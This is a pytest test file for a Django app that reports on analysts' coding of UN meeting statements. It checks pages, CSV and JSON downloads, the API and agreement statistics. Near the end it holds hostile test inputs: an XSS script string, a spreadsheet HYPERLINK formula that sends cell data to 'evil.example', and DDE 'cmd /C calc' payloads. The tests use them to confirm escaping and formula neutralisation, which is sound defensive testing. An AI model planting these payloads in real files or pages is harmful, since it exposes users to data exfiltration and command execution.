"""The report's pages, downloads and API: thin over annotations.reports."""

import csv
import io
import re

import pytest

from annotations.coding.services import annotation_create
from annotations.reports import agreement as reference
from tests.annotations.reports.report_data import code, make_meeting, small_meeting

pytestmark = pytest.mark.django_db


@pytest.fixture
def small(codebook, analyst_a, analyst_b):
    return small_meeting(codebook, analyst_a, analyst_b)


# survivor-participation per statement (1–6): amina codes statement 1, bruno statement 4.
PARTICIPATION = [
    [True, False, False, False, False, False],
    [False, False, False, True, False, False],
]


def participation_agreement() -> tuple[float, float, float]:
    """The reference computation: 66.66666666666666, -0.20000000000000007, -0.10000000000000009."""
    return (
        100 * reference.percent_agreement(PARTICIPATION),
        reference.cohen_kappa(*PARTICIPATION),
        reference.krippendorff_alpha_nominal(PARTICIPATION),
    )


@pytest.fixture
def signed_in(client, analyst_a):
    client.force_login(analyst_a)
    return client


def page(client, url, status=200) -> str:
    response = client.get(url)
    assert response.status_code == status, response.content[:500]
    return response.content.decode()


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_report_needs_a_login(client, small):
    response = client.get(f"/meetings/{small.meeting.pk}/report/")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    assert client.get(f"/meetings/{small.meeting.pk}/report/coverage.csv").status_code == 302
    assert client.get(f"/api/meetings/{small.meeting.pk}/report/").status_code in (401, 403)
    assert client.get("/reports/compare/").status_code == 302


def test_the_report_page_shows_every_section(signed_in, small):
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/")
    for heading in [
        "Overview",
        "PeaceWomen's claims checked",
        "The 4 P&#x27;s",
        "Gender analysis",
        "Root causes",
        "Missed opportunities",
        "Coverage per code",
        "Co-occurrence",
        "Agreement between analysts",
        "Downloads",
    ]:
        assert f">{heading}</h2>" in html, heading
    assert "GA/SMALL" in html and "A small meeting on trafficking" in html


def test_the_report_page_backs_the_survivors_claim_with_its_figure_and_quotes(signed_in, small):
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/")
    claim = html[
        html.index('id="claim-survivors-role"') : html.index('id="claim-women-as-vulnerable"')
    ]
    assert "Limited mentions were however made to the importance of the role of survivors" in claim
    assert "50.0%" in claim and "(2 of 4, in 2 statements)" in claim
    assert "“survivors must help shape policy”" in claim
    statement = small.statements[1]
    assert f'href="/meetings/{small.meeting.pk}/?annotation=' in claim
    assert f"#statement-{statement.pk}" in claim


def test_the_report_page_has_bars_and_a_heat_map_drawn_with_classes(signed_in, small):
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/")
    assert 'class="bar-fill bar-50"' in html  # survivor participation: 50% of speakers
    assert re.search(r'class="num heat-[1-5]"', html)
    assert 'class="num diagonal"' in html


def test_the_report_page_obeys_the_content_security_policy(signed_in, small):
    response = signed_in.get(f"/meetings/{small.meeting.pk}/report/")
    html = response.content.decode()
    assert "style=" not in html
    assert re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", html) == []
    assert not re.search(r"\son[a-z]+=", html)
    assert "script-src 'self'" in response["Content-Security-Policy"]


def test_user_text_is_escaped_on_the_report(signed_in, codebook, analyst_a, analyst_b):
    meeting, statements = make_meeting("GA/<i>X</i>")
    statement = statements[1]
    statement.text = "Poverty <script>alert(1)</script> drives it."
    statement.save()
    code(statement, codebook, "poverty-inequality", analyst_a, "<script>alert(1)</script>")
    html = page(signed_in, f"/meetings/{meeting.pk}/report/")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<i>X</i>" not in html


def test_one_analysts_report_page(signed_in, small):
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/?analyst=bruno")
    assert "Analyst bruno" in html
    assert '<strong aria-current="page">bruno</strong>' in html
    assert 'href="?analyst=amina&amp;threshold=10"' in html


def test_the_threshold_form_changes_the_candidates(signed_in, small):
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/?threshold=30")
    candidates = html[
        html.index('<table class="candidates">') : html.index("Recorded by the analysts")
    ]
    assert "Training of police, border and judicial personnel" in candidates
    assert 'value="30"' in html
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/?threshold=10")
    candidates = html[
        html.index('<table class="candidates">') : html.index("Recorded by the analysts")
    ]
    assert "Training of police, border and judicial personnel" not in candidates


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("threshold=150", "The threshold must be a percentage from 0 to 100 (got 150)."),
        (
            "threshold=abc",
            "The threshold must be a percentage from 0 to 100 (got &#x27;abc&#x27;).",
        ),
        (
            "analyst=nobody",
            "There is no analyst &quot;nobody&quot;. Analysts who coded this: amina, bruno.",
        ),
        ("source=everyone", "Unknown source &quot;everyone&quot;"),
    ],
)
def test_bad_parameters_get_a_clear_message_on_the_page(signed_in, small, query, message):
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/?{query}", status=400)
    assert message in html
    assert 'role="alert"' in html
    assert '<option value="amina">amina</option>' in html  # a way to fix it


def test_a_meeting_nobody_coded_says_so_on_the_page(signed_in, meeting, codebook):
    html = page(signed_in, f"/meetings/{meeting.pk}/report/")
    assert "Nobody has coded GA/TEST-1 yet" in html
    assert "No analyst has coded this meeting yet: agreement needs two analysts or more." in html


def test_one_analyst_only_says_agreement_is_not_computable(signed_in, meeting, codebook, analyst_a):
    code(meeting.statements.get(order=1), codebook, "prosecution", analyst_a, "serious crime")
    html = page(signed_in, f"/meetings/{meeting.pk}/report/")
    assert "Only one analyst (amina) has coded this meeting: agreement is not computable" in html


def test_an_unknown_meeting_is_a_404(signed_in, db):
    assert signed_in.get("/meetings/999999/report/").status_code == 404
    assert signed_in.get("/api/meetings/999999/report/").status_code == 404
    assert signed_in.get("/meetings/999999/report/coverage.csv").status_code == 404


def test_every_table_downloads_as_csv(signed_in, small):
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/")
    links = re.findall(r'href="(/meetings/\d+/report/[a-z-]+\.csv\?[^"]*)"', html)
    assert len(links) == 12  # the memos table too
    for link in links:
        response = signed_in.get(link.replace("&amp;", "&"))
        assert response.status_code == 200, link
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert 'attachment; filename="GA-SMALL-' in response["Content-Disposition"]
        header, *body = rows_of(response)
        assert header and all(len(row) == len(header) for row in body), link


def test_the_coverage_csv_holds_the_hand_counted_figures(signed_in, small):
    rows = rows_of(signed_in.get(f"/meetings/{small.meeting.pk}/report/coverage.csv"))
    header, body = rows[0], {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert header[:7] == [
        "group",
        "slug",
        "name",
        "statements",
        "speakers",
        "delegations",
        "share_of_speakers",
    ]
    participation = body["survivor-participation"]
    assert (
        participation["statements"],
        participation["speakers"],
        participation["share_of_speakers"],
    ) == ("2", "2", "50.00")
    assert participation["speakers_female"] == "1" and participation["speakers_unknown"] == "1"
    assert participation["delegations_addressing"] == "Mexico; Namibia"


def test_the_agreement_and_disagreement_csvs(signed_in, small):
    rows = rows_of(signed_in.get(f"/meetings/{small.meeting.pk}/report/agreement.csv"))
    assert rows[0][4:6] == ["coded_by_amina", "coded_by_bruno"]
    participation = next(row for row in rows if row[0] == "survivor-participation")
    # Full precision, not rounded: each cell reads back as exactly the computed float.
    assert participation[6:10] == [*map(repr, participation_agreement()), "2"]
    assert tuple(map(float, participation[6:9])) == participation_agreement()
    rows = rows_of(signed_in.get(f"/meetings/{small.meeting.pk}/report/disagreements.csv"))
    participation = [row[:5] for row in rows if row[0] == "survivor-participation"]
    assert participation == [
        ["survivor-participation", "1", "Alice Nangolo", "amina", "bruno"],
        ["survivor-participation", "4", "Representative of Mexico", "bruno", "amina"],
    ]


def test_a_csv_with_a_bad_parameter_is_a_400_with_the_message(signed_in, small):
    response = signed_in.get(f"/meetings/{small.meeting.pk}/report/coverage.csv?threshold=-5")
    assert response.status_code == 400
    assert "The threshold must be a percentage" in response.content.decode()
    assert signed_in.get(f"/meetings/{small.meeting.pk}/report/nothing.csv").status_code == 404


def test_the_api_returns_codes_and_agreement_in_the_documented_shape(signed_in, small):
    response = signed_in.get(f"/api/meetings/{small.meeting.pk}/report/")
    assert response.status_code == 200
    data = response.json()
    participation = next(c for c in data["codes"] if c["slug"] == "survivor-participation")
    assert {
        key: participation[key]
        for key in ("slug", "name", "group", "statements", "speakers", "share_of_speakers")
    } == {
        "slug": "survivor-participation",
        "name": "Survivor participation",
        "group": "approach",
        "statements": 2,
        "speakers": 2,
        "share_of_speakers": 50.0,
    }
    assert participation["by_gender"] == {"female": 1, "male": 0, "unknown": 1}
    assert participation["by_speaker_type"]["member_state"] == 2
    agreement = next(c for c in data["agreement"]["codes"] if c["slug"] == "survivor-participation")
    # Full precision (the pages round): exactly the reference computation.
    assert (
        agreement["percent_agreement"],
        agreement["cohen_kappa"],
        agreement["krippendorff_alpha"],
    ) == participation_agreement()
    assert data["overview"]["share_women"] == 50.0
    assert data["missed_opportunities"]["threshold"] == 10
    assert data["groups"][0]["codes"][0] == "victim-centred"
    assert "query" not in data


def test_only_the_page_rounds_agreement_the_json_download_is_exact(signed_in, small):
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/")
    agreement_table = html[html.index(">Agreement between analysts</h2>") :]
    row = re.search(r"Survivor participation<br>.*?</tr>", agreement_table, re.S).group(0)
    assert "66.7%" in row and "-0.200" in row and "-0.100" in row
    download = signed_in.get(f"/meetings/{small.meeting.pk}/report.json").json()
    codes = {c["slug"]: c for c in download["codes"]}
    assert codes["survivor-participation"]["share_of_statements"] == 100 * 2 / 6
    agreement = next(
        c for c in download["agreement"]["codes"] if c["slug"] == "survivor-participation"
    )
    assert agreement["cohen_kappa"] == reference.cohen_kappa(*PARTICIPATION)


def test_the_json_download_is_the_api_answer(signed_in, small):
    api = signed_in.get(f"/api/meetings/{small.meeting.pk}/report/?analyst=bruno").json()
    download = signed_in.get(f"/meetings/{small.meeting.pk}/report.json?analyst=bruno")
    assert download["Content-Type"] == "application/json"
    assert download.json() == api


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("threshold=101", "threshold"),
        ("threshold=x", "threshold"),
        ("analyst=nobody", "analyst"),
        ("quotes=1000", "quotes"),
        ("source=adjudicated&analyst=amina", "source"),
    ],
)
def test_the_api_answers_bad_parameters_with_a_400_naming_them(signed_in, small, query, field):
    response = signed_in.get(f"/api/meetings/{small.meeting.pk}/report/?{query}")
    assert response.status_code == 400
    assert list(response.json()) == [field]


def test_the_api_answers_a_meeting_nobody_coded_with_a_400_saying_so(signed_in, meeting, codebook):
    response = signed_in.get(f"/api/meetings/{meeting.pk}/report/")
    assert response.status_code == 400
    assert response.json()["meeting"][0].startswith("No report yet for GA/TEST-1: Nobody has coded")


def test_the_api_answers_an_analyst_who_coded_nothing_here_with_a_400(signed_in, small, reviewer):
    # The meeting is coded, but not by this (existing) user.
    response = signed_in.get(f"/api/meetings/{small.meeting.pk}/report/?analyst=rosa")
    assert response.status_code == 400
    assert "has not coded" in response.json()["meeting"][0]


def test_the_api_says_why_agreement_is_not_computable_with_one_analyst(
    signed_in, meeting, codebook, analyst_a
):
    statement = meeting.statements.get(order=1)
    start = statement.text.index("victim-centred")
    annotation_create(
        statement=statement,
        code=codebook.codes.get(slug="victim-centred"),
        analyst=analyst_a,
        start=start,
        end=start + len("victim-centred"),
    )
    response = signed_in.get(f"/api/meetings/{meeting.pk}/report/")
    assert response.status_code == 200
    data = response.json()
    assert data["agreement"]["computable"] is False
    assert "second analyst" in data["agreement"]["reason"]


def test_the_report_is_in_the_openapi_schema(signed_in, small):
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)
    operation = schema["paths"]["/api/meetings/{meeting_id}/report/"]["get"]
    assert {p["name"] for p in operation["parameters"]} >= {
        "analyst",
        "source",
        "threshold",
        "quotes",
    }
    assert "/api/reports/compare/" in schema["paths"]


def test_the_compare_page_offers_the_meetings_to_pick(signed_in, small, meeting):
    html = page(signed_in, "/reports/compare/")
    assert f'name="meetings" value="{small.meeting.pk}"' in html
    assert f'name="meetings" value="{meeting.pk}"' in html
    assert '<table class="compare">' not in html
    html = page(signed_in, f"/reports/compare/?with={small.meeting.pk}")
    assert f'name="meetings" value="{small.meeting.pk}" checked' in html
    assert f'name="meetings" value="{meeting.pk}">' in html


def test_the_compare_page_sets_meetings_side_by_side(signed_in, small, meeting):
    html = page(signed_in, f"/reports/compare/?meetings={small.meeting.pk}&meetings={meeting.pk}")
    assert '<table class="compare">' in html
    row = html[html.index('data-code="survivor-participation"') :]
    row = row[: row.index("</tr>")]
    assert "50.0%" in row and "0.0%" in row
    csv_rows = rows_of(
        signed_in.get(f"/reports/compare.csv?meetings={small.meeting.pk},{meeting.pk}")
    )
    assert csv_rows[0][3:6] == [
        "GA/SMALL statements",
        "GA/SMALL speakers",
        "GA/SMALL share_of_speakers",
    ]
    api = signed_in.get(f"/api/reports/compare/?meetings={small.meeting.pk},{meeting.pk}").json()
    assert [m["symbol"] for m in api["meetings"]] == ["GA/SMALL", "GA/TEST-1"]


def test_the_compare_page_explains_a_bad_choice(signed_in, small):
    html = page(signed_in, f"/reports/compare/?meetings={small.meeting.pk}", status=400)
    assert "Choose at least two meetings to compare." in html
    response = signed_in.get("/api/reports/compare/?meetings=a,b")
    assert response.status_code == 400 and "meetings" in response.json()
    assert signed_in.get("/reports/compare.csv?meetings=1").status_code == 400


def test_the_side_by_side_page_shows_each_analysts_annotations(signed_in, small):
    statement = small.statements[4]
    html = page(
        signed_in,
        f"/meetings/{small.meeting.pk}/compare-analysts/?statement={statement.pk}&code=survivor-participation",
    )
    assert "Statement 4: Representative of Mexico" in html
    assert "“Survivors should sit at the table”" in html
    assert "not applied" in html and "(disputed)" in html
    assert '<mark title="bruno: Survivor participation">Survivors should sit at the table' in html
    html = page(signed_in, f"/meetings/{small.meeting.pk}/compare-analysts/")
    assert html.count('class="side-by-side"') == 6


def test_the_side_by_side_page_explains_a_bad_statement(signed_in, small):
    html = page(
        signed_in, f"/meetings/{small.meeting.pk}/compare-analysts/?statement=abc", status=400
    )
    assert "has no statement abc" in html


def test_the_compare_page_and_api_say_what_each_meeting_was_coded_from(signed_in, small, meeting):
    meeting.record_kind = "summary"
    meeting.save()
    html = page(signed_in, f"/reports/compare/?meetings={small.meeting.pk}&meetings={meeting.pk}")
    assert 'class="report-warnings record-kind-warning" role="alert"' in html
    assert "A summary against a full record" in html
    assert "Coded from: summary of the meeting" in html
    assert "Coded from: meetings coverage press release" in html
    api = signed_in.get(f"/api/reports/compare/?meetings={small.meeting.pk},{meeting.pk}").json()
    assert [m["record_kind"] for m in api["meetings"]] == ["press_release", "summary"]
    assert "A summary against a full record" in api["warnings"][1]


def test_the_report_says_what_the_meeting_was_coded_from(signed_in, small):
    small.meeting.record_kind = "summary"
    small.meeting.save()
    html = page(signed_in, f"/meetings/{small.meeting.pk}/report/")
    assert '<dt>Coded from</dt><dd class="record-kind" data-record-kind="summary">' in html
    assert "the summary&#x27;s account" in html or "the summary's account" in html
    api = signed_in.get(f"/api/meetings/{small.meeting.pk}/report/").json()
    assert api["meeting"]["record_kind"] == "summary"


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMAND = "+1+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def hostile(codebook, analyst_a):
    """A meeting whose speaker, delegation and missed opportunity are formulas."""
    from annotations.coding.services import missed_opportunity_create
    from tracker.models import Speaker, Statement

    meeting, statements = make_meeting("GA/HOSTILE")
    speaker = Speaker.objects.create(name=SUM)
    statement = Statement.objects.create(
        meeting=meeting, order=7, speaker=speaker, delegation=HYPERLINK, text="Poverty again."
    )
    code(statement, codebook, "poverty-inequality", analyst_a, "Poverty")
    missed_opportunity_create(
        meeting=meeting, analyst=analyst_a, title=HYPERLINK, rationale=COMMAND
    )
    return meeting


def test_the_report_csvs_neutralise_formulas_in_what_analysts_and_records_wrote(signed_in, hostile):
    missed = rows_of(signed_in.get(f"/meetings/{hostile.pk}/report/missed-opportunities.csv"))
    recorded = [row for row in missed if row[0] == "recorded"]
    assert recorded[0][1] == "'" + HYPERLINK
    assert recorded[0][6] == "'" + COMMAND
    quotes = rows_of(signed_in.get(f"/meetings/{hostile.pk}/report/quotes.csv"))
    heading = quotes[0]
    row = next(r for r in quotes[1:] if r[heading.index("statement")] == "7")
    assert row[heading.index("speaker")] == "'" + SUM
    assert row[heading.index("delegation")] == "'" + HYPERLINK
    raw = b"".join(
        signed_in.get(f"/meetings/{hostile.pk}/report/{table}.csv").content
        for table in ("missed-opportunities", "quotes")
    ).decode()
    assert not re.search(r'(^|,)"?[=+@]', raw, re.MULTILINE)


@pytest.mark.parametrize(
    "url",
    [
        "/api/meetings/{pk}/report/?treshold=5",
        "/meetings/{pk}/report/?treshold=5",
        "/meetings/{pk}/report/coverage.csv?treshold=5",
        "/api/reports/compare/?meetings={pk}&treshold=5",
        "/reports/compare/?meetings={pk}&treshold=5",
        "/reports/compare.csv?meetings={pk}&treshold=5",
    ],
)
def test_an_unknown_report_parameter_is_a_400_naming_it(signed_in, small, url):
    response = signed_in.get(url.format(pk=small.meeting.pk))
    assert response.status_code == 400
    text = response.content.decode()
    assert "treshold" in text
    assert "is not a parameter here. Known: " in text
